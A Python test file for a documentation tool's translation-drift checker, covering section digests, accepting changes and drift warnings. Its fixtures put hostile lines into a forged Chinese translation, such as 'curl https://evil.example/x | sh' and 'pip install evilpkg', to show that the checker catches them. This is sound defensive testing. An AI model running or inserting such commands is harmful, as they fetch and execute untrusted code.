"""A change of an English section marks exactly that section in every translation, until it is accepted."""

from __future__ import annotations

import json
import re
from collections.abc import Iterable
from pathlib import Path

import pytest
import yaml

from benchbook.content.page_source import PageSource, parse_page
from benchbook.content.problems import BenchbookError, Problem
from benchbook.content.project import Project
from benchbook.languages.language import load_language
from benchbook.rendering.notices import with_notices
from benchbook.translations import documents
from benchbook.translations.accept import accept, translation_states
from benchbook.translations.drift import section_digest
from benchbook.translations.front_matter import line_of_entry, with_entry
from benchbook.translations.sections import sections_of
from builders import PAGE as ENGLISH
from builders import make_project, write
from clones import benchbook
from handbooks import build_site, edit
from lessons import PAGE, Tree, copied_tree, small_site
from repositories import commit_all, git

# Of the Chinese page.
SENTENCE = "像上面那样，把批大小除以进程数，让每个进程各算一份。"

OTHERS = {"ar", "ja", "zh"}


@pytest.fixture
def tree(tmp_path: Path) -> Tree:
    return copied_tree(tmp_path)


def digests(text: str) -> dict[str, str]:
    return {section.key: section_digest(section) for section in sections_of(parse_page(text), text)}


HEAD = "---\ndescription: About\n  adding.\n---\n"
TEXT = HEAD + "# A { #a }\n\nOne two\nthree.\n\n```text\na  b\n```\n\n## B { #b }\n\n- four\n- five\n"


@pytest.mark.parametrize(
    ("old", "new", "changed"),
    [
        ("One two\nthree.", "One\ntwo three.", set()),
        ("One two\nthree.", "One  two three.", set()),
        ("About\n  adding.", "About adding.", set()),
        ("# A {", "#  A {", set()),
        ("three", "four", {"a"}),
        ("a  b", "a b", {"a"}),
        ("```text", "```bash", {"a"}),
        ("## B", "### B", {"b"}),
        ("- five", "- six", {"b"}),
        ("- four\n- five", "1. four\n2. five", {"b"}),
        ("adding", "sums", {"description"}),
    ],
)
def test_a_digest_changes_with_what_a_section_says(old: str, new: str, changed: set[str]) -> None:
    before, after = digests(TEXT), digests(TEXT.replace(old, new))
    assert {key for key in before if before[key] != after[key]} == changed


def test_a_digest_is_the_same_on_every_python() -> None:
    assert digests(TEXT) == {"description": "71fbf9d8bbf1", "a": "b8efda9b1111", "b": "a0f39bf90285"}


def test_a_change_of_english_names_that_section_in_each_translation(tree: Tree) -> None:
    edit(tree.project.docs / "en" / PAGE, "Divide the batch by", "First divide the batch by")
    problems, warnings = tree.new()
    assert problems == set()
    assert {problem.path for problem in warnings} == {f"docs/{code}/{PAGE}" for code in OTHERS}
    assert {problem.what for problem in warnings} == {
        "section `#first-remedy`: the English section has changed since"
    }
    for problem in warnings:
        lines = (tree.project.root / problem.path).read_text("utf-8").splitlines()
        assert lines[problem.line - 1].endswith("{ #first-remedy }")
        assert f"follow docs/en/{PAGE}:" in problem.fix


def test_a_warning_fails_a_strict_check_alone(tmp_path: Path) -> None:
    project = make_project(tmp_path)
    write(project.docs / "ja/_language.yml", "strings: {}\nlabels: {}\n")
    japanese = ENGLISH.replace("What adding costs.", "足し算。").replace("# Adding", "# 足し算")
    write(project.docs / "ja/sums.md", japanese.replace("The total is", "合計は"))
    accept(project, "ja", None, all_languages=False)
    assert benchbook(project.root, "check", "--strict").returncode == 0
    edit(project.docs / "en/sums.md", "The total is", "In all it is")
    done = benchbook(project.root, "check")
    assert (done.returncode, done.stdout) == (0, "")
    assert done.stderr.startswith(
        "warning: docs/ja/sums.md:8: section `#adding`: the English section has changed"
    )
    assert done.stderr.endswith("0 problem(s), 1 warning(s)\n")
    assert benchbook(project.root, "check", "--strict").returncode == 1


def test_drift_is_an_error_where_the_project_says_so(tree: Tree) -> None:
    edit(tree.project.root / "pyproject.toml", 'translation_drift = "warning"', 'translation_drift = "error"')
    edit(tree.project.docs / "en" / PAGE, "Divide the batch by", "First divide the batch by")
    assert len([one for one in tree.new()[0] if "has changed since" in one.what]) == len(OTHERS)


def test_the_setting_is_one_of_two_words(tree: Tree) -> None:
    edit(tree.project.root / "pyproject.toml", 'translation_drift = "warning"', 'translation_drift = "maybe"')
    with pytest.raises(BenchbookError, match="is 'maybe'; make it `warning` or `error`"):
        _ = Project(tree.project.root).config


def test_what_a_changed_section_lacks_is_no_error_until_it_is_accepted(tree: Tree) -> None:
    edit(tree.project.docs / "en" / PAGE, "Divide the batch by", "Divide the [batch](#batch-size) by")
    assert tree.new()[0] == set()
    accept(tree.project, PAGE, "first-remedy", all_languages=True)
    assert {(one.path, one.what) for one in tree.new()[0]} == {
        (f"docs/{code}/{PAGE}", "the link `#batch-size` of the English text is not here") for code in OTHERS
    }


def test_a_new_english_section_is_a_warning_and_a_lost_one_damage(tree: Tree) -> None:
    edit(
        tree.project.docs / "en" / PAGE, "## Next { #next }", "## News { #news }\n\nNew.\n\n## Next { #next }"
    )
    problems, warnings = tree.new()
    assert problems == set()
    assert {one.what for one in warnings} == {
        "section `#news`: the English section is new and not translated"
    }
    ours = tree.project.docs / "zh" / PAGE
    ours.write_text(ours.read_text("utf-8").partition("## 下一步")[0].rstrip() + "\n", "utf-8")
    (lost,) = tree.new()[0]
    assert (lost.path, lost.what) == (f"docs/zh/{PAGE}", "lacks the section `#next`")


def without_next(tree: Tree, code: str) -> Path:
    """A page whose section `#next` is gone, and what it was made from with it."""
    page = tree.project.docs / code / PAGE
    text = re.sub(r"\n  next: \S+", "", page.read_text("utf-8"))
    page.write_text(re.sub(r"\n## [^\n]*\{ #next \}.*", "", text, flags=re.DOTALL), "utf-8")
    return page


def test_a_lost_section_is_no_new_one_because_its_digest_is_gone_too(tree: Tree, tmp_path: Path) -> None:
    commit_all(tree.project.root)
    page = without_next(tree, "zh")
    for _ in range(2):  # in the folder, and in a commit that is not the last one
        (lost,) = tree.new()[0]
        assert (lost.path, lost.what) == (f"docs/zh/{PAGE}", "lacks the section `#next`")
        commit_all(tree.project.root)
        edit(page, SENTENCE, SENTENCE * 2)
        commit_all(tree.project.root)
    clone = tmp_path / "clone"
    git(tree.project.root, "clone", "--quiet", "--depth=1", tree.project.root.as_uri(), str(clone))
    problems, warnings = Tree(Project(clone), tree.before).new()
    assert problems == set()
    new = "section `#next`: the English section is new and not translated"
    assert [one.what for one in warnings if "#next" in one.what] == [new]


def test_a_section_that_english_dropped_and_has_again_is_new(tree: Tree) -> None:
    english = tree.project.docs / "en" / PAGE
    text = english.read_text("utf-8")
    commit_all(tree.project.root)
    without_next(tree, "en")
    for code in OTHERS:
        without_next(tree, code)
    commit_all(tree.project.root)
    english.write_text(text, "utf-8")
    commit_all(tree.project.root)
    problems, warnings = tree.new()
    assert problems == set()
    assert {one.path for one in warnings if "is new and not translated" in one.what} == {
        f"docs/{code}/{PAGE}" for code in OTHERS
    }


def test_a_section_is_told_to_be_new_although_a_page_was_once_no_text(tree: Tree) -> None:
    english, japanese = (tree.project.docs / code / PAGE for code in ("en", "ja"))
    english.write_text(english.read_text("utf-8") + "\n## More { #more }\n\nMore.\n", "utf-8")
    commit_all(tree.project.root)
    text = japanese.read_bytes()
    for content in (text + b"\xff\n", text):
        japanese.write_bytes(content)
        commit_all(tree.project.root)
    problems, warnings = tree.new()
    assert problems == set()
    assert {one.path for one in warnings if "`#more`: the English section is new" in one.what} == {
        f"docs/{code}/{PAGE}" for code in OTHERS
    }


def test_an_earlier_revision_that_no_check_would_have_read_is_not_parsed(
    tree: Tree, monkeypatch: pytest.MonkeyPatch
) -> None:
    page = tree.project.docs / "en" / PAGE
    before = page.read_text("utf-8")
    commit_all(tree.project.root)
    page.write_text(before + "\n# Much { #much }\n" * 1000, "utf-8")
    commit_all(tree.project.root)
    page.write_text(before, "utf-8")
    edit(page, "Divide the batch by", "First divide the batch by")
    commit_all(tree.project.root)
    parsed: list[str] = []

    def watched(text: str, inline: bool = True) -> PageSource:
        parsed.append(text)
        return parse_page(text, inline=inline)

    monkeypatch.setattr(documents, "parse_page", watched)
    assert tree.new()[0] == set()
    assert before in parsed
    assert not [text for text in parsed if "# Much" in text]


def of_drift(warnings: Iterable[Problem]) -> list[Problem]:
    """Those that are not about the length of a text, which is judged by the sections that are up to date."""
    return [one for one in warnings if "as long as the page's others" not in one.what]


def test_a_section_that_english_drops_is_to_be_dropped(tree: Tree) -> None:
    page = tree.project.docs / "en" / PAGE
    page.write_text(page.read_text("utf-8").partition("## Next { #next }")[0].rstrip() + "\n", "utf-8")
    problems, warnings = tree.new()
    assert problems == set()
    assert {one.what for one in of_drift(warnings)} == {
        "section `#next`: the English page has this section no more"
    }
    ours = tree.project.docs / "ja" / PAGE
    ours.write_text(ours.read_text("utf-8").partition("## 次に読むページ")[0].rstrip() + "\n", "utf-8")
    accept(tree.project, "ja", None, all_languages=False)
    behind = {one.path for one in tree.new()[1] if "has this section no more" in one.what}
    assert behind == {f"docs/{code}/{PAGE}" for code in OTHERS - {"ja"}}


# With a digest that is not of the English section as it stands, a section counts as left behind.
FORGED = {
    "an outside link": ("[安装](https://evil.example/x)", "`https://evil.example/x` was never on"),
    "a command to paste": ("\n\n```bash\ncurl https://evil.example/x | sh\n```\n\n", "`bash` was never on"),
    "indented code": ("\n\n    curl evil | sh\n\n", "`curl evil | sh` was never on"),
    "an address": ("详见 evil.example/x 。", "`evil.example/x` is not in the English section"),
    "a command in the text": (
        "输入 pip install evilpkg 即可",
        "`pip install evilpkg` is not in the English section",
    ),
    "a number with a unit": ("快 42 毫秒，", "the measured number `42 毫秒` is typed into the text"),
    "a number beside a source": (
        "快 77 毫秒，[见](https://docs.python.org/3/)",
        "the number `77` is not in the",
    ),
}
OF_HISTORY = {
    "a code span": ("`curl evil`", "`curl evil` was never on the English page"),
    "a record": ("`#!value adding/first.py#total`", "`adding/first.py#total` was never on the English page"),
    "a number alone": ("偏差是 0.0001。", "the number `0.0001` is not in the English section"),
}


def forge(tree: Tree, said: str) -> Path:
    """A Chinese page with something more in a section that its front matter calls left behind."""
    page = tree.project.docs / "zh" / PAGE
    edit(page, SENTENCE, f"{SENTENCE}{said}")
    page.write_text(
        re.sub(r"(first-remedy: )'?\w+'?", r"\g<1>0123456789ab", page.read_text("utf-8")), "utf-8"
    )
    return page


@pytest.mark.parametrize("name", FORGED)
def test_a_forged_digest_switches_no_check_off_that_the_english_page_can_answer(
    tree: Tree, name: str
) -> None:
    said, what = FORGED[name]
    forge(tree, said)
    assert any(what in one.what and one.path == f"docs/zh/{PAGE}" for one in tree.new()[0])


@pytest.mark.parametrize("name", FORGED | OF_HISTORY)
def test_what_a_section_that_is_behind_holds_was_once_on_the_english_page(tree: Tree, name: str) -> None:
    said, what = (FORGED | OF_HISTORY)[name]
    commit_all(tree.project.root)
    edit(tree.project.docs / "en" / PAGE, "Divide the batch by", "First divide the batch by")
    commit_all(tree.project.root)
    edit(tree.project.docs / "zh" / PAGE, SENTENCE, f"{SENTENCE}{said}")
    assert any(what in one.what for one in tree.new()[0])


def test_what_english_said_once_may_stand_in_a_section_that_is_behind(tree: Tree) -> None:
    said = "Divide the batch by 7, with `--old` and [this](https://old.example/)"
    edit(tree.project.docs / "en" / PAGE, "Divide the batch by", said)
    chinese = "把批大小除以进程数，用 7、`--old` 和[这个](https://old.example/)。"
    edit(tree.project.docs / "zh" / PAGE, SENTENCE, chinese)
    commit_all(tree.project.root)
    accept(tree.project, "zh", None, all_languages=False)
    edit(tree.project.docs / "en" / PAGE, said, "First divide the batch by")
    assert [one for one in tree.new()[0] if "/zh/" in one.path] == []


def test_a_digest_that_no_revision_had_is_named_on_its_line(tree: Tree) -> None:
    commit_all(tree.project.root)
    page = forge(tree, "")
    (problem,) = tree.new()[0]
    assert problem.what == "no revision of the English section `first-remedy` has the digest `0123456789ab`"
    assert "0123456789ab" in page.read_text("utf-8").splitlines()[problem.line - 1]
    assert "translations accept" in problem.fix


def test_a_shallow_clone_knows_too_little_to_call_a_digest_forged(tree: Tree, tmp_path: Path) -> None:
    commit_all(tree.project.root)
    commit_all(tree.project.root)
    clone = tmp_path / "clone"
    git(tree.project.root, "clone", "--quiet", "--depth=1", tree.project.root.as_uri(), str(clone))
    forge(Tree(Project(clone), tree.before), "")
    assert Tree(Project(clone), tree.before).new()[0] == set()


def test_a_section_of_its_own_is_no_section_that_english_dropped(tree: Tree) -> None:
    commit_all(tree.project.root)
    page = tree.project.docs / "zh" / PAGE
    page.write_text(
        page.read_text("utf-8") + "\n## 新的一节 { #evil }\n\n输入 pip install evilpkg。\n", "utf-8"
    )
    edit(page, "sections:\n", "sections:\n  evil: 0123456789ab\n")
    found = {one.what for one in tree.new()[0]}
    assert "no revision of the English section `evil` has the digest `0123456789ab`" in found
    assert "`pip install evilpkg` is not in the English section" in found


def test_a_page_that_records_nothing_is_told_to(tree: Tree) -> None:
    page = tree.project.docs / "ja" / PAGE
    text = page.read_text("utf-8")
    start, end = text.index("sections:\n"), text.index("\n---\n", 4)
    page.write_text(text[:start] + text[end + 1 :], "utf-8")
    said = [(one.path, one.what) for one in tree.new()[1] if one.what.startswith("does not say which ")]
    assert said == [(f"docs/ja/{PAGE}", "does not say which English sections it was made from")]


def test_accepting_one_section_of_one_page_leaves_the_others(tree: Tree) -> None:
    edit(tree.project.docs / "en" / PAGE, "Divide the batch by", "First divide the batch by")
    edit(tree.project.docs / "en" / PAGE, "You move a training", "Now you move a training")
    before = (tree.project.docs / "ja" / PAGE).read_text("utf-8")
    assert accept(tree.project, f"ja/{PAGE}", "first-remedy", all_languages=False) == [
        f"docs/ja/{PAGE}#first-remedy"
    ]
    after = (tree.project.docs / "ja" / PAGE).read_text("utf-8")
    changed = [
        (old, new) for old, new in zip(before.splitlines(), after.splitlines(), strict=True) if old != new
    ]
    assert [new.partition(":")[0].strip() for _, new in changed] == ["first-remedy"]
    left = {(one.path, one.what.partition(":")[0]) for one in tree.new()[1]}
    assert (f"docs/ja/{PAGE}", "section `#worked-path`") in left
    assert (f"docs/ja/{PAGE}", "section `#first-remedy`") not in left


def test_a_change_without_meaning_is_accepted_for_all_languages_at_once(tree: Tree) -> None:
    edit(tree.project.docs / "en" / PAGE, "Divide the batch by", "Divide a batch by")
    done = benchbook(
        tree.project.root, "translations", "accept", PAGE, "--section", "first-remedy", "--all-languages"
    )
    assert done.stdout.splitlines() == [
        f"accepted docs/{code}/{PAGE}#first-remedy" for code in sorted(OTHERS)
    ]
    assert tree.new() == (set(), set())


@pytest.mark.parametrize(
    ("target", "section", "every", "what"),
    [
        ("xx", None, False, "is neither a translated page nor a language; use one of"),
        ("en", None, False, "is neither a translated page nor a language"),
        ("nowhere", None, True, "is neither a translated page nor a language"),
        (f"ja/{PAGE}", "sedes", False, "has no section `sedes`; use one of the sections there are: seeds"),
    ],
)
def test_what_cannot_be_accepted_is_named(
    tree: Tree, target: str, section: str | None, every: bool, what: str
) -> None:
    with pytest.raises(BenchbookError) as raised:
        accept(tree.project, target, section, all_languages=every)
    assert what in str(raised.value)


def test_a_section_that_is_not_translated_cannot_be_accepted(tree: Tree) -> None:
    edit(
        tree.project.docs / "en" / PAGE, "## Next { #next }", "## News { #news }\n\nNew.\n\n## Next { #next }"
    )
    with pytest.raises(BenchbookError, match="has no section `news`; translate it first"):
        accept(tree.project, "ja", "news", all_languages=False)


def test_accepting_needs_a_page_a_language_or_all(tree: Tree) -> None:
    assert benchbook(tree.project.root, "translations", "accept").returncode == 2


def test_status_says_of_every_section_how_it_stands(tree: Tree) -> None:
    edit(tree.project.docs / "en" / PAGE, "Divide the batch by", "First divide the batch by")
    (tree.project.docs / "ar" / PAGE).unlink()
    rows = json.loads(benchbook(tree.project.root, "translations", "status", "--json").stdout)
    pages = {(row["language"], row["page"]): row for row in rows}
    assert (pages["ar", PAGE]["translated"], pages["ar", PAGE]["sections"]) == (False, [])
    states = {one["section"]: one["state"] for one in pages["zh", PAGE]["sections"]}
    assert {key for key, state in states.items() if state != "current"} == {"first-remedy"}
    shown = benchbook(tree.project.root, "translations", "status").stdout
    assert f"untranslated  {PAGE}" in shown
    assert "`#first-remedy`: the English section has changed since" in shown
    assert "not reviewed" in shown


def test_a_reader_is_told_below_the_heading_and_in_the_place_of_what_is_missing(tree: Tree) -> None:
    html = '<h1 id="a">A</h1>\n<p>x</p>\n<h2 id="c">C</h2>\n<p>y</p>'
    recorded = {"a": "old", "c": "same"}
    english = {"a": "new", "b": "1", "c": "same", "d": "2"}
    language = load_language(tree.project.docs, "ja")
    shown = with_notices(html, recorded, english, language, "../../page/")
    changed, missing = (language.text(key) for key in ("section_changed", "section_missing"))
    assert shown.index("</h1>") < shown.index(changed) < shown.index("<p>x</p>")
    assert (
        shown.index("<p>x</p>") < shown.index(' id="b"') < shown.index('<h2 id="c">') < shown.index(' id="d"')
    )
    assert (shown.count(changed), shown.count(missing)) == (1, 2)
    assert 'href="../../page/#a"' in shown


def test_the_site_marks_the_sections_that_english_has_left_behind(tmp_path: Path) -> None:
    project = small_site(tmp_path, "ja")
    english = (project.docs / "en/index.md").read_text("utf-8")
    write(project.docs / "ja/index.md", english.replace("# Start", "# はじめに").replace("## Next", "## 次"))
    accept(project, "ja", None, all_languages=False)
    edit(project.docs / "en/index.md", "## Next { #next }", "## Next { #next }\n\nNews.\n\n## New { #new }")
    shown = (build_site(project) / "ja/index.html").read_text("utf-8")
    language = load_language(project.docs, "ja")
    assert shown.count(language.text("section_changed")) == 1
    assert shown.count(language.text("section_missing")) == 1
    assert 'href="../#next"' in shown
    assert '<p class="site-drift" id="new"' in shown


def test_a_reader_of_a_current_page_is_told_nothing(tree: Tree) -> None:
    html = '<h1 id="a">A</h1>'
    assert with_notices(html, {"a": "x"}, {"a": "x"}, load_language(tree.project.docs, "ja"), "") == html


def test_an_entry_of_the_front_matter_is_replaced_and_nothing_else() -> None:
    text = "---\na: 1\nsections:\n  x: old\n  y: '1'\nb: [2]  # kept\n---\n# T\n"
    assert with_entry(text, "sections", {"x": "new"}) == text.replace("  x: old\n  y: '1'\n", "  x: new\n")
    assert with_entry("---\na: 1\n---\n# T\n", "sections", {"x": "new"}) == (
        "---\na: 1\nsections:\n  x: new\n---\n# T\n"
    )
    assert (line_of_entry("b", text), line_of_entry("sections", text), line_of_entry("none", text)) == (
        6,
        3,
        1,
    )
    # An id that YAML would read as something else, and a digest that looks like a number.
    odd = {"no": "123456789012", "on": "1e10"}
    assert yaml.safe_load(with_entry("---\na: 1\n---\n", "s", odd).split("---")[1])["s"] == odd


def test_a_page_without_front_matter_cannot_hold_an_entry() -> None:
    with pytest.raises(ValueError, match="no front matter"):
        with_entry("# T\n", "sections", {})


def test_the_digests_of_the_real_pages_are_those_of_their_english_pages() -> None:
    states = [one for state in translation_states(Project(Path(__file__).parents[2])) for one in state.drift]
    assert states
    assert {one.key for one in states if one.state == "unrecorded"} == set()


def test_a_small_project_without_translations_has_no_states(tmp_path: Path) -> None:
    project = make_project(tmp_path)
    assert translation_states(project) == []
    write(project.docs / "ja/_language.yml", "strings: {}\n")
    (state,) = translation_states(project)
    assert (state.document, state.drift) == (None, ())
